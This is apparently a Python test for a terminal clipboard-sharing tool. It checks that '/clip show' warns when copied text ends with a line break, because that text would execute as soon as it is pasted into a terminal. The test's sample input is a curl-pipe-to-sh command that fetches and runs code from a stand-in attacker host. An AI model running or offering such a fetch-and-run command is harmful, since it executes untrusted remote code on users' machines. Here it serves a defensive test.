"""review39c: ``view``'s ``/clip show`` says a text ends with a line break.
The page's offer shows it ("\\n", clipfix39: "the newline that would run a
command"); the terminal printed the text's lines, so "curl ... | sh" and a
newline read as the command alone, which pasted in a terminal runs at once
(found: the same lines as without it, nothing said). Real host and view,
the host's Xvfb clipboard set with xclip."""

from __future__ import annotations

from .test_cli import ENV
from .test_clip39_cli import _session, _xclip_set


def test_review39c_clip_show_says_the_text_ends_with_a_line_break(xvfb_display: str) -> None:
    env = {k: v for k, v in ENV.items() if k != "DISPLAY"}
    host, view = _session(xvfb_display, env)
    try:
        shown = []
        for text in ("curl http://evil.example/x | sh\n", "df -h"):
            _xclip_set(xvfb_display, text)
            start = len(view.text)
            host.type("/clip")
            view.wait_for(rf"host's clipboard \({len(text)} characters\) received", start, 15)
            start = len(view.text)
            view.type("/clip show")
            got = view.wait_for(r"--- host's clipboard \(\d+ characters\) ---\n(.*?)--- end ---",
                                start, 15)  # fmt: skip
            shown.append(got.group(1).splitlines())
        assert shown == [
            ["curl http://evil.example/x | sh",
             "(it ends with a line break: pasted in a terminal, its last line runs at once)"],
            ["df -h"],
        ], shown  # fmt: skip
        assert view.leave() == 0, view.text
    finally:
        view.close()
        host.close()
